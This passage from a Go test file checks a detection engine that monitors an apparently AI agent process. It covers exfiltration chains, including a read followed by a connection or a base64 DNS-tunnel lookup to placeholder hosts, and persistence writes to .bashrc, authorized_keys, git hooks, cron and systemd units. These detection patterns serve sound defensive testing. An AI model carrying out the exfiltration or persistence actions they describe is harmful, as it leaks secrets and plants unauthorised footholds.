		name string
		evs  []*Event
		want bool
	}{
		{"read then send", []*Event{read(20, 1), connectEv(sess(1), 20, at(2), "198.51.100.7", 443)}, true},
		{"connect then read", []*Event{connectEv(sess(1), 20, at(1), "198.51.100.7", 443), read(20, 2)}, true},
		{"dns tunnel after the read", []*Event{read(20, 1), dnsEv(sess(1), 20, at(2), "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBrZXk.t.example.net", "198.51.100.53")}, true},
		{"another process sends", []*Event{read(20, 1), connectEv(sess(1), 21, at(2), "198.51.100.7", 443)}, false},
		{"allowed destination", []*Event{read(20, 1), connectEv(sess(1), 20, at(2), "160.79.104.10", 443)}, false},
		{"outside the window", []*Event{read(20, 0), connectEv(sess(1), 20, at(601), "198.51.100.7", 443)}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e, _ := newEngine(t)
			e.Score(execEv(sess(1), 1, at(0), 0, "/root/proj", "agent"))
			fired := false
			for _, ev := range tt.evs {
				if tt.name == "allowed destination" && ev.Kind == KindConnect {
					ev.ServerAddr = "api.anthropic.com"
				}
				fired = has(e, e.Score(ev), "chain.exfiltration") || fired
			}
			if fired != tt.want {
				t.Fatalf("chain fired = %v, want %v", fired, tt.want)
			}
		})
	}
}

// A write open of a persistence target scores high; its read, git's
// sample hooks and a write elsewhere do not.
func TestPersistenceWrites(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	e.Score(execEv(s, 1, at(0), 0, "/root/proj", "agent"))
	for _, tt := range []struct {
		path, flags string
		want        bool
	}{
		{"/root/.bashrc", "O_WRONLY|O_APPEND", true},
		{"/root/.bashrc", "O_RDONLY", false},
		{"/root/.ssh/authorized_keys", "O_WRONLY|O_CREAT|O_APPEND", true},
		{"/root/proj/.git/hooks/pre-commit", "O_WRONLY|O_CREAT|O_TRUNC", true},
		{"/root/proj/.git/hooks/pre-commit.sample", "O_WRONLY|O_CREAT|O_TRUNC", false},
		{"/etc/cron.d/job", "O_WRONLY|O_CREAT", true},
		{"/root/.config/systemd/user/x.service", "O_RDWR|O_CREAT", true},
		{"/root/proj/notes.txt", "O_WRONLY|O_CREAT", false},
	} {
		ev := openEv(s, 2, at(1), "/usr/bin/bash", tt.path, tt.flags)
		ev.UID, ev.HasUID = 0, true
		r := e.Score(ev)
		if got := has(e, r, "file.persistence"); got != tt.want {
			t.Errorf("%s %s: file.persistence %v, want %v (%v)", tt.path, tt.flags, got, tt.want, ruleIDs(e, r.Rules))
		}
		if tt.want && LevelOf(r.Score) != semconv.LevelHigh {
			t.Errorf("%s: level %s, want high", tt.path, LevelOf(r.Score))
		}
	}
}
